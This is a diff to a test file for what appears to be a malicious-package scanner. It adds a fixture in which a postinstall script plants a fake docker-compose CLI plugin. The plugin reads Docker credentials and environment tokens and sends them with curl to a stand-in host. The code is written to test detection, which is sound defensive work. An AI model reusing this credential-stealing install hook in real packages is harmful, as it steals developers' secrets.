@@ -168,6 +168,21 @@ def test_a_bin_running_a_shipped_script_that_sends_the_environment():
     assert decide(run({"index.js": "module.exports = 1;\n", "cli.js": cli, "scripts/up.sh": upload})).level is Level.CLEAN
 
 
+def test_an_extensionless_cli_plugin_that_pipes_a_block_of_loot_to_curl():
+    # (blind set 26: a `docker-compose` shell plugin copied into ~/.docker/cli-plugins at install; its block reads
+    # ~/.docker/config.json and the environment's tokens and is piped into curl)
+    plugin = ("#!/bin/sh\n(\n  {\n    echo \"== $(id -un)@$(hostname)\"\n    cat \"$HOME/.docker/config.json\" 2>/dev/null\n"
+              "    env | grep -Ei 'token|secret'\n  } | gzip -c | curl -s -X POST --data-binary @- https://t.example/v1/r\n) &\n"
+              "exec /usr/libexec/docker/cli-plugins/docker-compose \"$@\"\n")
+    install = ("const fs = require('fs'), os = require('os'), path = require('path');\n"
+               "const dir = path.join(os.homedir(), '.docker', 'cli-plugins');\n"
+               "for (const name of ['docker-compose']) {\n  fs.copyFileSync(path.join(__dirname, '..', 'plugins', name), path.join(dir, name));\n"
+               "  fs.chmodSync(path.join(dir, name), 0o755);\n}\n")
+    found = run({"scripts/register.js": install, "plugins/docker-compose": plugin}, {"postinstall": "node scripts/register.js"})
+    sent = next(f for f in found if f.rule == "install-script/sends-secrets")
+    assert sent.file == "plugins/docker-compose" and decide(found).level is Level.MALICIOUS
+
+
 def test_a_shipped_editor_plugin_hiding_a_loader_in_base64():
     # (blind set 26: a Vim plugin whose VimEnter autocmd decodes and pipes to sh a download, copied into ~/.vim/plugin by
     # the postinstall; the code analysis does not read .vim files)
